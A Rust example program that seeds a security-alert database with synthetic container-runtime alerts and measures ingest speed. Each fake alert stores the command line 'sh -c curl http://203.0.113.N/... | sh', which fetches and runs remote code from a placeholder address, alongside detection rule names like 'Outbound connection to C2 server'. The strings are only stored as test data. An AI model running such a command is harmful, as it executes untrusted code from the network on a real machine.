//! Fills a database with realistic alerts, for benchmarks:
//! `cargo run --release -p palisade-store --example seed -- DB_PATH COUNT`.
//!
//! Prints the ingest rate of the store alone (no HTTP).

use std::{path::PathBuf, time::Instant};

use palisade_model::{
    AffectedAsset, AlertDetails, Details, FindingReport, ProcessInfo, Severity, Timestamp,
};
use palisade_store::{HandlingPolicy, SqliteStore, Store};

const RULES: [&str; 8] = [
    "Terminal shell in container",
    "Read sensitive file untrusted",
    "Drop and execute new binary in container",
    "Outbound connection to C2 server",
    "Write below binary dir",
    "Launch package management process in container",
    "Contact K8S API server from container",
    "Clear log activities",
];

/// Report number `index` of a deterministic, realistic mix: 8 rules, 5 severities, 20 namespaces,
/// 5,000 pods, timestamps spread over 30 days.
pub fn report(index: u64, now: i64) -> FindingReport {
    let pod = index % 5_000;
    FindingReport {
        id: uuid::Uuid::now_v7(),
        observed_at: Timestamp(now + index as i64),
        severity: Severity::ALL[(index % 5) as usize],
        rule: RULES[(index % 8) as usize].into(),
        title: format!("{} in web-{pod}", RULES[(index % 8) as usize]),
        asset: AffectedAsset {
            cluster: if index.is_multiple_of(4) {
                "staging".into()
            } else {
                "prod".into()
            },
            node: Some(format!("node-{}", pod % 50)),
            namespace: Some(format!("team-{}", pod % 20)),
            pod: Some(format!("web-{pod}")),
            container_name: Some("app".into()),
            image: Some("registry.example/shop/web:1.4.2".into()),
            ..Default::default()
        },
        details: Details::Alert(AlertDetails {
            process: ProcessInfo {
                pid: (index % 60_000) as u32 + 100,
                ppid: 1,
                exe: "/bin/sh".into(),
                // Distinct command lines make distinct findings, as in a noisy real cluster.
                cmdline: format!(
                    "sh -c 'curl http://203.0.113.{}/x{index} | sh'",
                    index % 250
                ),
                user: "root".into(),
            },
            raw_event: serde_json::json!({"evt.type": "execve", "proc.name": "sh", "n": index}),
            ..Default::default()
        }),
        demo: false,
    }
}

#[tokio::main]
async fn main() {
    let mut args = std::env::args().skip(1);
    let (Some(path), Some(count)) = (args.next(), args.next()) else {
        eprintln!("usage: seed DB_PATH COUNT");
        std::process::exit(2);
    };
    let count: u64 = count.parse().expect("COUNT must be a number");
    let store = SqliteStore::open(&PathBuf::from(path))
        .await
        .expect("cannot open the database");
    let now = Timestamp::now().millis();
    let started = Instant::now();
    let policy = HandlingPolicy::default();
    let mut index = 0;
    while index < count {
        let batch: Vec<_> = (index..(index + 5_000).min(count))
            .map(|i| report(i, now))
            .collect();
        store.ingest(&batch, &policy).await.expect("ingest failed");
        index += batch.len() as u64;
    }
    let seconds = started.elapsed().as_secs_f64();
    println!(
        "ingested {count} alerts in {seconds:.1} s: {:.0} alerts/s",
        count as f64 / seconds
    );
}
